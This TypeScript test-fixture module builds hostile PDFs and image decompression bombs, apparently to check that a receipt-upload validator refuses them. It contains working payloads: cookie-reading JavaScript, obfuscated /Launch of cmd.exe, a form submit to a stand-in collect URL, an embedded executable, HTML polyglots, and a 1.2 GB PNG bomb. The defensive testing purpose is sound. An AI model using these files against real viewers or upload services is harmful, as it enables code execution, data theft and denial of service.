import { deflateRawSync, deflateSync, constants as zlibConstants } from 'node:zlib';
import sharp from 'sharp';

/**
 * Hostile files as an attacker builds them, made in code so every byte is visible here: PDFs
 * that run, open, send or attach something in every spelling we know of, image bombs, and the
 * harmless look-alikes that must still be accepted.
 */

type PdfObject = string | { dict: string; stream: Buffer | string };
const latin = (s: string) => Buffer.from(s, 'latin1');

/** A PDF with a correct cross-reference table (or stream), so viewers read it without repair. */
export function buildPdf(objects: PdfObject[], options: { trailer?: string; after?: string; compressed?: { objectStream: number; members: number[] } } = {}): Buffer {
  const parts: Buffer[] = [latin('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n')];
  let length = parts[0]!.length;
  const offsets: number[] = [];
  objects.forEach((o, i) => {
    offsets.push(length);
    let body: Buffer;
    if (typeof o === 'string') body = latin(`${i + 1} 0 obj\n${o}\nendobj\n`);
    else {
      const data = typeof o.stream === 'string' ? latin(o.stream) : o.stream;
      body = Buffer.concat([latin(`${i + 1} 0 obj\n<< ${o.dict} /Length ${data.length} >>\nstream\n`), data, latin('\nendstream\nendobj\n')]);
    }
    parts.push(body);
    length += body.length;
  });
  const trailer = options.trailer ?? '/Root 1 0 R';
  if (options.compressed) {
    // A cross-reference stream that places `members` inside object stream `objectStream`, as real writers do.
    const { objectStream, members } = options.compressed;
    const size = Math.max(objects.length, ...members) + 2;
    const rows: Buffer[] = [Buffer.from([0, 0, 0, 0, 0, 0xff, 0xff])];
    for (let n = 1; n < size; n++) {
      const row = Buffer.alloc(7);
      const member = members.indexOf(n);
      if (n === size - 1) {
        row[0] = 1;
        row.writeUInt32BE(length, 1);
      } else if (member >= 0) {
        row[0] = 2;
        row.writeUInt32BE(objectStream, 1);
        row.writeUInt16BE(member, 5);
      } else if (offsets[n - 1] !== undefined) {
        row[0] = 1;
        row.writeUInt32BE(offsets[n - 1]!, 1);
      }
      rows.push(row);
    }
    const data = deflateSync(Buffer.concat(rows));
    parts.push(
      latin(`${size - 1} 0 obj\n<< /Type /XRef /Size ${size} /W [1 4 2] ${trailer} /Filter /FlateDecode /Length ${data.length} >>\nstream\n`),
      data,
      latin(`\nendstream\nendobj\nstartxref\n${length}\n%%EOF\n${options.after ?? ''}`),
    );
    return Buffer.concat(parts);
  }
  let xref = `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n`;
  for (const off of offsets) xref += `${String(off).padStart(10, '0')} 00000 n \n`;
  xref += `trailer\n<< /Size ${objects.length + 1} ${trailer} >>\nstartxref\n${length}\n%%EOF\n${options.after ?? ''}`;
  parts.push(latin(xref));
  return Buffer.concat(parts);
}

/** An object stream holding `objects` (numbered from `firstNumber`), compressed with `filters`. */
export function objectStream(objects: string[], firstNumber: number, filters: 'flate' | 'hex+flate' = 'flate'): { dict: string; stream: Buffer } {
  let header = '';
  let body = '';
  objects.forEach((o, i) => {
    header += `${firstNumber + i} ${body.length} `;
    body += `${o}\n`;
  });
  const plain = latin(header + body);
  const flate = deflateSync(plain);
  if (filters === 'flate') return { dict: `/Type /ObjStm /N ${objects.length} /First ${header.length} /Filter /FlateDecode`, stream: flate };
  return { dict: `/Type /ObjStm /N ${objects.length} /First ${header.length} /Filter [/ASCIIHexDecode /FlateDecode]`, stream: latin(`${flate.toString('hex')}>`) };
}

const PAGES = '<< /Type /Pages /Kids [3 0 R] /Count 1 >>';
const page = (extra = '') => `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 200] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> ${extra} >>`;
const CONTENT = { dict: '', stream: 'BT /F1 14 Tf 20 120 Td (Transferencia BCI: MT 1 500,00) Tj ET' };
const FONT = '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>';
/** A one-page document whose catalog carries `catalogExtra` and whose page carries `pageExtra`. */
const doc = (catalogExtra = '', pageExtra = '', more: PdfObject[] = [], options: Parameters<typeof buildPdf>[1] = {}) =>
  buildPdf([`<< /Type /Catalog /Pages 2 0 R ${catalogExtra} >>`, PAGES, page(pageExtra), CONTENT, FONT, ...more], options);

/** Deflate of `block` repeated `times`, without holding the whole output: for bombs of any size. */
function zlibOfRepeated(block: Buffer, times: number, adler: number): Buffer {
  const piece = deflateRawSync(block, { level: 9, finishFlush: zlibConstants.Z_FULL_FLUSH });
  const checksum = Buffer.alloc(4);
  checksum.writeUInt32BE(adler >>> 0);
  return Buffer.concat([Buffer.from([0x78, 0xda]), ...Array<Buffer>(times).fill(piece), Buffer.from([0x03, 0x00]), checksum]);
}

export interface CorpusEntry {
  label: string;
  name: string;
  bytes: Buffer;
  /** What the refusal must say. */
  message: RegExp;
}

const ACTIVE = /conteúdo ativo/;

export function hostilePdfs(): CorpusEntry[] {
  const js = '<< /S /JavaScript /JS (app.alert\\(document.cookie\\)) >>';
  const entries: [string, Buffer, RegExp?][] = [
    ['JavaScript run on opening', doc(`/OpenAction ${js}`)],
    ['#-escaped names: /J#61vaScript and /#4A#53', doc('/OpenAction << /S /J#61vaScript /#4A#53 (app.alert\\(1\\)) >>')],
    ['#-escaped /OpenAction key and /S /#4Caunch', doc('/Open#41ction << /#53 /#4Caunch /F (cmd.exe) >>')],
    ['JavaScript inside a compressed object stream (cross-reference stream)', doc('/OpenAction 7 0 R', '', [objectStream([js], 7)], { compressed: { objectStream: 6, members: [7] } })],
    ['JavaScript in an object stream behind ASCIIHex and Flate', doc('/OpenAction 7 0 R', '', [objectStream([js], 7, 'hex+flate')], { compressed: { objectStream: 6, members: [7] } })],
    ['JavaScript in the document name tree', doc('/Names << /JavaScript << /Names [(init) 6 0 R] >> >>', '', [js])],
    ['JavaScript code kept in a stream', doc('/OpenAction << /S /JavaScript /JS 6 0 R >>', '', [{ dict: '/Filter /FlateDecode', stream: deflateSync(latin('app.launchURL("http://example.invalid")')) }])],
    ['page open trigger (/AA) with JavaScript', doc('', `/AA << /O ${js} >>`)],
    ['/OpenAction that opens a web address', doc('/OpenAction << /S /URI /URI (http://example.invalid/phish) >>')],
    ['link that submits a form to a web address', doc('', '/Annots [6 0 R]', ['<< /Type /Annot /Subtype /Link /Rect [0 0 300 200] /A << /S /SubmitForm /F << /FS /URL /F (http://example.invalid/collect) >> >> >>'])],
    ['/GoToR to a network path', doc('/OpenAction << /S /GoToR /F (\\\\\\\\example.invalid\\\\share\\\\x.pdf) /D [0 /Fit] >>')],
    ['/GoToE into an embedded document', doc('/OpenAction << /S /GoToE /T << /R /C /N (x) >> /D [0 /Fit] >>')],
    ['/ImportData', doc('/OpenAction << /S /ImportData /F (dados.fdf) >>')],
    ['/Launch a program', doc('/OpenAction << /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>')],
    ['XFA form with a script', doc('/AcroForm << /Fields [] /XFA 6 0 R >> /NeedsRendering true', '', [{ dict: '', stream: '<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><script contentType="application/x-javascript">xfa.host.messageBox("x")</script></template></xdp:xdp>' }])],
    ['form with a field', doc('/AcroForm << /Fields [6 0 R] >>', '/Annots [6 0 R]', ['<< /Type /Annot /Subtype /Widget /FT /Tx /T (valor) /Rect [0 0 100 20] /P 3 0 R >>'])],
    ['embedded executable', doc('/Names << /EmbeddedFiles << /Names [(recibo.exe) 6 0 R] >> >>', '', ['<< /Type /Filespec /F (recibo.exe) /EF << /F 7 0 R >> >>', { dict: '/Type /EmbeddedFile', stream: 'MZ\x90\x00' }])],
    ['file attachment annotation', doc('', '/Annots [6 0 R]', ['<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 10 10] /FS (a.hta) >>'])],
    ['/RichMedia annotation', doc('', '/Annots [6 0 R]', ['<< /Type /Annot /Subtype /RichMedia /Rect [0 0 10 10] /RichMediaContent << >> >>'])],
    ['JavaScript added in an incremental update', Buffer.concat([doc(), latin(`1 0 obj\n<< /Type /Catalog /Pages 2 0 R /OpenAction ${js} >>\nendobj\n%%EOF\n`)])],
    ['names split by a comment', doc('/OpenAction << /S %x\n/JavaScript /JS (1) >>')],
    ['PDF/HTML polyglot', doc('', '', [], { after: '<html><body><script>fetch("/admin-api/staff/list")</script></body></html>\n' })],
    ['PDF/HTML polyglot in a comment', Buffer.concat([latin('%PDF-1.7\n%<html><script>alert(1)</script>\n'), doc().subarray(9)])],
    ['encrypted PDF', doc('', '', [], { trailer: '/Root 1 0 R /Encrypt << /Filter /Standard /V 1 /R 2 /O <00> /U <00> /P -4 >>' }), /protegido/],
    ['object stream that inflates to 100 MB', doc('', '', [{ dict: '/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode', stream: zlibOfRepeated(Buffer.alloc(1 << 20, 0x20), 100, 1) }]), /Não foi possível verificar este PDF/],
    ['object stream in an unknown compression', doc('', '', [{ dict: '/Type /ObjStm /N 1 /First 4 /Filter /JBIG2Decode', stream: 'xxxx' }]), /Não foi possível verificar este PDF/],
  ];
  return entries.map(([label, bytes, message]) => ({ label, name: 'comprovativo.pdf', bytes, message: message ?? ACTIVE }));
}

/** PDFs that only draw pages, in shapes real banks and phones produce: all must be accepted. */
export function harmlessPdfs(): { label: string; bytes: Buffer }[] {
  return [
    { label: 'one page of text', bytes: doc() },
    { label: 'opens at a page (/OpenAction to a destination)', bytes: doc('/OpenAction [3 0 R /Fit]') },
    { label: 'an empty form dictionary', bytes: doc('/AcroForm << /Fields [] >>') },
    { label: 'XMP metadata and an outline that moves inside the document', bytes: doc('/Metadata 6 0 R /Outlines 7 0 R', '', [
      { dict: '/Type /Metadata /Subtype /XML', stream: '<?xpacket begin="" id="W5M0MpCehiHzreSzNTczkc9d"?><x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"/></x:xmpmeta><?xpacket end="w"?>' },
      '<< /Type /Outlines /First 8 0 R /Last 8 0 R /Count 1 >>',
      '<< /Title (Recibo) /Parent 7 0 R /A << /S /GoTo /D [3 0 R /Fit] >> >>',
    ]) },
    { label: 'compressed objects in an object stream', bytes: doc('/PageLabels 7 0 R', '', [objectStream(['<< /Nums [0 << /S /D >>] >>'], 7)], { compressed: { objectStream: 6, members: [7] } }) },
  ];
}

const crcTable = Array.from({ length: 256 }, (_, n) => {
  let c = n;
  for (let k = 0; k < 8; k++) c = c & 1 ? 0xedb88320 ^ (c >>> 1) : c >>> 1;
  return c >>> 0;
});
const crc32 = (buf: Buffer) => {
  let c = 0xffffffff;
  for (const b of buf) c = crcTable[(c ^ b) & 0xff]! ^ (c >>> 8);
  return (c ^ 0xffffffff) >>> 0;
};
function pngChunk(type: string, data: Buffer): Buffer {
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  const body = Buffer.concat([latin(type), data]);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(body));
  return Buffer.concat([length, body, crc]);
}
const PNG_SIGNATURE = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);
function ihdr(width: number, height: number): Buffer {
  const data = Buffer.alloc(13);
  data.writeUInt32BE(width, 0);
  data.writeUInt32BE(height, 4);
  data[8] = 8;
  data[9] = 2;
  return pngChunk('IHDR', data);
}

/** A real photo-like image: noise, so re-encoding cannot shrink it to nothing. */
export async function realImage(kind: 'png' | 'jpeg', options: { exifGps?: boolean } = {}): Promise<Buffer> {
  const image = sharp({ create: { width: 64, height: 48, channels: 3, background: '#7a2e5b', noise: { type: 'gaussian', mean: 128, sigma: 30 } } });
  if (kind === 'png') return image.png().toBuffer();
  return image
    .withExif(options.exifGps ? { IFD0: { Make: 'Telefone', Model: 'Camera' }, IFD3: { GPSLatitudeRef: 'S', GPSLatitude: '25/1 58/1 0/1', GPSLongitudeRef: 'E', GPSLongitude: '32/1 34/1 0/1' } } : {})
    .jpeg()
    .toBuffer();
}

/** Images that decode to far more memory than they weigh: all must be refused by their header. */
export async function imageBombs(): Promise<CorpusEntry[]> {
  // 20000 × 20000 RGB: 1.2 GB of pixels in about 1.1 MB.
  const rows = 100;
  const block = Buffer.alloc(rows * (1 + 20_000 * 3));
  const idat = zlibOfRepeated(block, 20_000 / rows, ((block.length * (20_000 / rows)) % 65521) * 65536 + 1);
  const huge = Buffer.concat([PNG_SIGNATURE, ihdr(20_000, 20_000), pngChunk('IDAT', idat), pngChunk('IEND', Buffer.alloc(0))]);

  const tinyPng = await realImage('png');
  const claimsPng = Buffer.concat([PNG_SIGNATURE, ihdr(65_535, 65_535), tinyPng.subarray(33)]);

  const tinyJpeg = await realImage('jpeg');
  const claimsJpeg = Buffer.from(tinyJpeg);
  for (let i = 2; i < claimsJpeg.length - 9; i++) {
    // The frame header (SOF0/SOF2): height and width as 16-bit numbers.
    if (claimsJpeg[i] === 0xff && (claimsJpeg[i + 1] === 0xc0 || claimsJpeg[i + 1] === 0xc2)) {
      claimsJpeg.writeUInt16BE(65_535, i + 5);
      claimsJpeg.writeUInt16BE(65_535, i + 7);
      break;
    }
  }
  const tooLarge = /dimensões demasiado grandes/;
  return [
    { label: 'PNG of 20000×20000 (1.2 GB decoded)', name: 'recibo.png', bytes: huge, message: tooLarge },
    { label: 'PNG header claiming 65535×65535', name: 'recibo.png', bytes: claimsPng, message: tooLarge },
    { label: 'JPEG header claiming 65535×65535', name: 'recibo.jpg', bytes: claimsJpeg, message: tooLarge },
  ];
}

/** A real PNG carrying a compressed text chunk that inflates to 200 MB: kept only as re-encoded pixels. */
export async function pngWithTextBomb(): Promise<Buffer> {
  const tiny = await realImage('png');
  const text = Buffer.concat([latin('Comment\0\0'), zlibOfRepeated(Buffer.alloc(1 << 20, 0x41), 200, 1)]);
  return Buffer.concat([tiny.subarray(0, 33), pngChunk('zTXt', text), tiny.subarray(33)]);
}
